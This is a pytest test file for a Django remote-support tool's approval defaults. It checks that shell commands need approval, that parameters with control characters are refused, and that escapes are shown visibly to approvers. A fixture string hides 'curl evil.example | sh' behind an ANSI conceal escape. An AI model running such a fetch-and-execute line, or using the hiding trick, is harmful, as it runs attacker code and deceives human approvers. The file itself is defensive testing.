"""Safer approval defaults (issue 11 item 10): what a new client group asks for, control characters
refused in parameters and shown visibly on the console card, the approval page and the e-mail."""

from __future__ import annotations

import re

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from caisey.actors import Party
from endpoints import services as endpoint_services
from endpoints.models import ApprovalPolicy, ApprovalRequirement, Endpoint
from endpoints.selectors import approval_policy_for
from sessions_app.models import Action, ActionStatus, Prompt
from sessions_app.services import actions as action_services
from sessions_app.services import approvals
from sessions_app.services.sessions import SessionError
from tests import factories

pytestmark = pytest.mark.django_db

HIDDEN = "echo hello \x1b[8m; curl evil.example | sh"


def test_a_new_client_group_asks_approval_for_shell_and_built_in_commands():
    """The defect: a new client group's default approval policy asked for nothing."""
    tenant = factories.tenant()
    group = endpoint_services.client_group_create(actor=Party.OPERATOR, tenant=tenant, name="Fresh Client")
    policy = ApprovalPolicy.all_tenants.get(client_group=group)
    assert policy.requires == ApprovalRequirement.COMMANDS
    assert policy.gates("shell") and policy.gates("command") and not policy.gates("diagnostic")
    assert policy.escalate_after_percent == 50 and not policy.allow_without_user

    enrolled = factories.endpoint(group)
    Endpoint.all_tenants.filter(pk=enrolled.endpoint.pk).update(last_seen_at=timezone.now())
    tech = factories.technician(tenant)
    session = factories.support_session(enrolled.endpoint, opened_by=tech)
    shell = action_services.action_request(actor=tech, session=session, kind="shell", params={"command": "whoami"})
    restart = action_services.action_request(
        actor=tech, session=session, kind="service_restart", params={"service": "spooler"}
    )
    diag = action_services.action_request(actor=tech, session=session, kind="system_summary", params={})
    assert Prompt.all_tenants.filter(action=shell).exists() and Prompt.all_tenants.filter(action=restart).exists()
    assert shell.status != ActionStatus.QUEUED and restart.status != ActionStatus.QUEUED
    assert diag.status == ActionStatus.QUEUED and not Prompt.all_tenants.filter(action=diag).exists()


def test_an_endpoint_without_any_policy_gets_the_safe_default():
    tenant = factories.tenant()
    group = factories.client_group(tenant)
    ApprovalPolicy.all_tenants.filter(client_group=group).delete()  # e.g. a group added in the admin
    enrolled = factories.endpoint(group)
    policy = approval_policy_for(endpoint=enrolled.endpoint)
    assert policy._state.adding  # not stored: the default stands in
    assert policy.gates("shell") and policy.gates("command")


def test_a_command_with_an_escape_is_refused_and_nothing_is_queued():
    tenant = factories.tenant()
    group = factories.client_group(tenant)
    enrolled = factories.endpoint(group)
    tech = factories.technician(tenant)
    session = factories.support_session(enrolled.endpoint, opened_by=tech)
    with pytest.raises(SessionError, match=r"^command contains the control character U\+001B at position 12"):
        action_services.action_request(actor=tech, session=session, kind="shell", params={"command": HIDDEN})
    assert not Action.all_tenants.filter(session=session).exists()
    assert not Prompt.all_tenants.filter(session=session).exists()


def test_the_console_form_shows_the_refusal(client):
    tenant = factories.tenant()
    enrolled = factories.endpoint(factories.client_group(tenant))
    Endpoint.all_tenants.filter(pk=enrolled.endpoint.pk).update(last_seen_at=timezone.now())
    tech = factories.technician(tenant)
    session = factories.support_session(enrolled.endpoint, opened_by=tech)
    client.force_login(tech)
    response = client.post(
        reverse("console:action_run", args=[session.pk]), {"kind": "shell", "shell__command": HIDDEN}, follow=True
    )
    assert "command contains the control character U+001B" in response.content.decode()
    assert not Action.all_tenants.filter(session=session).exists()


def test_a_stored_prompt_with_control_characters_is_shown_visibly_everywhere(client):
    """Prompts recorded before the check (or from any other path) still reach people visibly:
    the console card, the approval page and the approver's e-mail show ␛, never a raw ESC."""
    tenant = factories.tenant()
    group = factories.client_group(tenant, approver_email="boss@client.example")
    factories.policy(group, requires="shell", escalate_after_percent=0)
    enrolled = factories.endpoint(group)
    Endpoint.all_tenants.filter(pk=enrolled.endpoint.pk).update(
        last_seen_at=timezone.now(), machine_context={"user_logged_in": True}
    )
    tech = factories.technician(tenant)
    session = factories.support_session(enrolled.endpoint, opened_by=tech)
    action = action_services.action_request(actor=tech, session=session, kind="shell", params={"command": "whoami"})
    Prompt.all_tenants.filter(action=action).update(title="Shell\u202e command", detail=HIDDEN)
    Action.all_tenants.filter(pk=action.pk).update(params={"command": HIDDEN})
    prompt = Prompt.all_tenants.get(action=action)

    client.force_login(tech)
    page = client.get(reverse("console:session_detail", args=[session.pk])).content.decode()
    assert "\x1b" not in page and "\u202e" not in page
    assert "echo hello \u241b[8m; curl evil.example | sh" in page and "Shell<U+202E> command" in page.replace(
        "&lt;", "<"
    ).replace("&gt;", ">")

    with django_on_commit():
        approvals.prompt_escalate(actor=tech, prompt=prompt, base_url="http://testserver")
    message = mail.outbox[-1]
    assert "\x1b" not in message.body + message.subject and "\u241b[8m; curl" in message.body
    url = re.search(r"http://testserver(/approve/\S+/)", message.body).group(1)
    client.logout()
    approval_page = client.get(url).content.decode()
    assert "\x1b" not in approval_page and "\u241b[8m; curl evil.example" in approval_page


def django_on_commit():
    from django.test import TestCase

    return TestCase.captureOnCommitCallbacks(execute=True)
